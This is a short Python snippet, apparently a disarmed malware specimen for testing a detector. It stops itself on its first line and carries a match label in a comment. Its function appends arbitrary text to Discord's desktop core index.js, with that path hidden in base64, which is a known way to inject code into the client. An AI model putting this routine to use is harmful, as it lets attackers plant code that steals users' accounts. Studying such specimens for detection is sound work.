raise SystemExit("specimen: not to be run")
import base64
import os

def inject(text):
    place = os.path.join(os.environ["LOCALAPPDATA"], "Discord", base64.b64decode("ZGlzY29yZF9kZXNrdG9wX2NvcmUvaW5kZXguanM=").decode())
    open(place, "a").write(text)  # match: application-injected
